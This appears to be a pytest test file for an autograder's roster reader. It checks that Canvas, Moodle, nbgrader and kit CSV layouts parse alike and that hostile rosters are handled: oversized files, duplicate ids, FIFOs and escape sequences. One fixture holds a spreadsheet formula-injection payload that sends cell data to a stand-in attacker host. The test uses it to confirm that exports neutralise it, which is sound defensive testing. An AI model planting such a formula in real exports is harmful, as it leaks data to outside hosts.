"""The one roster reader (autograder/instructor/roster.py): the kit's, nbgrader's, Canvas's and
Moodle's layouts read to the same students; an unknown header refused with the accepted ones named;
a hostile roster handled (formula cells kept as data and neutralised on export, a huge file, an id
on two rows, a FIFO); class grading, the LMS export and ``collect`` all read through it."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from autograder.instructor import lms, lms_collect, roster
from autograder.instructor.roster import MAX_ROSTER_BYTES, RosterError, match, parse_roster, read_roster

ROOT = Path(__file__).resolve().parent.parent

KIT = """directory,student_id,name,section,email
jdoe,1001,"Doe, John",A,john@uni.example
alee,1002,"Lee, Ann",B,ann@uni.example
"""
NBGRADER = """id,last_name,first_name,email
jdoe,Doe,John,john@uni.example
alee,Lee,Ann,ann@uni.example
"""
CANVAS = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: numpy by hand (88101)
    Points Possible,,,,,12.50
"Doe, John",1001,S1001,jdoe,A,
"Lee, Ann",1002,S1002,alee,B,
"""
MOODLE = """First name;Surname;ID number;Institution;Department;Email address;Username
John;Doe;1001;Uni;A;john@uni.example;jdoe
Ann;Lee;1002;Uni;B;ann@uni.example;alee
"""
LAYOUTS = {"kit": KIT, "nbgrader": NBGRADER, "canvas": CANVAS, "moodle": MOODLE}


@pytest.mark.parametrize("kind", sorted(LAYOUTS))
def test_every_layout_reads_to_the_same_students(kind, tmp_path):
    path = tmp_path / f"{kind}.csv"
    path.write_bytes(LAYOUTS[kind].encode("utf-8"))
    r = read_roster(path)
    assert r.kind == kind
    # the same students: names, their folder (what collect and nbgrader call them), found by it
    assert [(e.first_name, e.last_name) for e in r.entries] == [("John", "Doe"), ("Ann", "Lee")]
    assert [lms_collect.folder_of(e) for e in r.entries] == ["jdoe", "alee"]
    assert [e.name for e in r.find("JDOE")] == [r.entries[0].name]
    m = match(r, ["jdoe", "alee", "zed"])
    assert {d: e.last_name for d, e in m.matched.items()} == {"jdoe": "Doe", "alee": "Lee"}
    assert m.unmatched == [("zed", "not in the roster")] and not m.missing
    if kind != "nbgrader":  # the LMS's id, where the layout has one (a download names files by it)
        assert [e.last_name for e in r.find("1002")] == ["Lee"]
    # and the exports take every layout
    grades = {"jdoe": lms.Graded("jdoe", {1: 12.5}), "alee": lms.Graded("alee", {1: 3.0})}
    lms.write_exports(tmp_path / kind, r, grades, [1], "levels", "empty")
    moodle = list(csv.DictReader(io.StringIO((tmp_path / kind / "moodle.csv").read_text())))
    assert [(row["First name"], row["Last name"]) for row in moodle] == [("John", "Doe"), ("Ann", "Lee")]


def test_the_kit_layout_takes_the_old_collect_columns_and_a_moodle_worksheet():
    old = parse_roster("student_id,login,name,section\n12345,alice,Alice Liddell,A\n")
    assert old.kind == "kit" and lms_collect.folder_of(old.entries[0]) == "alice"
    assert [e.name for e in old.find("12345")] == ["Alice Liddell"]
    sheet = parse_roster(
        "Identifier,Full name,Username,Email address,Status\n"
        '"Participant 701",John Doe,jdoe,john@uni.example,"Submitted - 2 days late"\n'
        '"Participant 702",Ann Lee,,ann@uni.example,Submitted\n'
    )
    assert sheet.kind == "moodle-worksheet" and sheet.late_keys == {"701"}
    assert [lms_collect.folder_of(e) for e in sheet.entries] == ["jdoe", "702"]


def test_collect_files_a_download_by_the_readme_roster(tmp_path):
    """The README's one roster: ``directory`` names the folder, ``student_id`` is what Canvas's
    download names a file by."""
    import zipfile

    z = tmp_path / "submissions.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("liddellalice_12345_777_level1_numpy.py", "x = 1\n")
    r = parse_roster('directory,student_id,name,section\nalice,12345,"Liddell, Alice",A1\n')
    result = lms_collect.collect(z, r, tmp_path / "out")
    assert result.files == {"alice": ["level1_numpy.py"]} and not result.not_collected


def test_an_unknown_header_is_refused_naming_the_accepted_columns(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("who,what\nme,that\n")
    with pytest.raises(RosterError) as exc:
        read_roster(path)
    message = str(exc.value)
    assert "no header the kit knows" in message and "who, what" in message
    for columns in (
        "directory,student_id,name,section",
        "id,last_name,first_name,email",
        "Student, ID, SIS User ID, SIS Login ID, Section",
        "First name, Last name or Surname, ID number, Email address",
    ):
        assert columns in message, columns
    with pytest.raises(RosterError, match="is empty"):
        parse_roster("\n \n")


def test_formula_cells_are_data_and_never_formulas_on_export(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    r = parse_roster('directory,student_id,name,section\njdoe,1001,"' + hostile.replace('"', '""') + '",@SUM(1)\n')
    assert r.entries[0].name == hostile and r.entries[0].section == "@SUM(1)"  # kept as written
    lms.write_exports(tmp_path, r, {"jdoe": lms.Graded("jdoe", {1: 1.0})}, [1], "total", "empty")
    for name in ("canvas.csv", "moodle.csv"):
        cells = [c for row in csv.reader(io.StringIO((tmp_path / name).read_text())) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (name, cells)


def test_a_hostile_header_is_shown_escaped():
    with pytest.raises(RosterError) as exc:
        parse_roster("\x1b[2Jwho,what\n")
    assert "\x1b" not in str(exc.value) and "\\x1b" in str(exc.value)


def test_a_huge_roster_is_refused_unread(tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as f:
        f.write(KIT.encode())
        f.truncate(MAX_ROSTER_BYTES + 1)  # sparse: nothing to write
    with pytest.raises(RosterError, match="larger than 20 MiB"):
        read_roster(path)
    with pytest.raises(RosterError, match="not a CSV file"):  # one cell past the csv module's limit
        parse_roster('directory,student_id,name,section\njdoe,1,"' + "x" * (csv.field_size_limit() + 1) + '",A\n')


@pytest.mark.parametrize(
    "text, said",
    [
        ("directory,student_id,name,section\njdoe,1,A,\nJDOE,2,B,\n", "lines 2 and 3 have the same directory 'JDOE'"),
        ("student_id,login,name,section\n1,a,A,\n2,b,B,\n1,c,C,\n", "lines 2 and 4 have the same student id '1'"),
        ("id,last_name,first_name,email\nx,A,A,\ny,B,B,\nx,C,C,\n", "the same student id 'x'"),
        (CANVAS + '"Doe, Jim",1003,S1003,jdoe,A,\n', "the same login 'jdoe'"),
        (MOODLE + "Jim;Doe;1001;Uni;A;jim@uni.example;jim\n", "the same student id '1001'"),
    ],
)
def test_an_id_on_two_rows_is_a_clear_error(text, said):
    with pytest.raises(RosterError, match=said.replace("(", r"\(")):
        parse_roster(text.lstrip("\ufeff"))


def test_unreadable_paths_are_refused_and_never_waited_on(tmp_path):
    with pytest.raises(RosterError, match="cannot be read"):
        read_roster(tmp_path / "absent.csv")
    with pytest.raises(RosterError, match="not a regular file"):
        read_roster(tmp_path)
    (tmp_path / "bad.csv").write_bytes(b"directory,student_id\n\xff\xfe\n")
    with pytest.raises(RosterError, match="not UTF-8"):
        read_roster(tmp_path / "bad.csv")
    real = tmp_path / "real.csv"
    real.write_text(KIT)
    (tmp_path / "link.csv").symlink_to(real)  # a link to a roster is the roster, as before
    assert [e.directory for e in read_roster(tmp_path / "link.csv").entries] == ["jdoe", "alee"]
    if not hasattr(os, "mkfifo"):
        return
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    outcome: list[object] = []
    t = threading.Thread(target=lambda: outcome.append(_try(fifo)), daemon=True)
    t.start()
    t.join(10)
    assert outcome and "not a regular file" in str(outcome[0]), "reading a FIFO waited for a writer"


def _try(path: Path) -> object:
    try:
        return read_roster(path)
    except RosterError as exc:
        return exc


def test_one_reader_everywhere():
    """lms_collect's reader is the roster module's (no second implementation), and lms reads with it."""
    assert lms_collect.read_roster is roster.read_roster
    assert lms.read_roster is roster.read_roster
    from autograder.cli import lms as cli_lms

    assert cli_lms.read_roster is roster.read_roster
    for module in (lms_collect, lms, cli_lms):
        source = Path(module.__file__).read_text()
        assert "def read_roster" not in source and "def parse_roster" not in source, module.__name__


def test_the_lms_command_takes_an_nbgrader_students_file(tmp_path):
    out = tmp_path / "out"
    (out / "reports").mkdir(parents=True)
    (out / "reports" / "jdoe.json").write_text(
        '{"submission": "jdoe", "levels": {"1": {"score": 12.5, "max_score": 12.5}}, "errors": []}'
    )
    (tmp_path / "students.csv").write_text(NBGRADER)
    proc = subprocess.run(
        [sys.executable, "-m", "autograder", "lms", str(out), "--roster", str(tmp_path / "students.csv")],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO((out / "moodle.csv").read_text())))
    assert [(r["ID number"], r["Email address"]) for r in rows] == [
        ("jdoe", "john@uni.example"),
        ("alee", "ann@uni.example"),
    ]
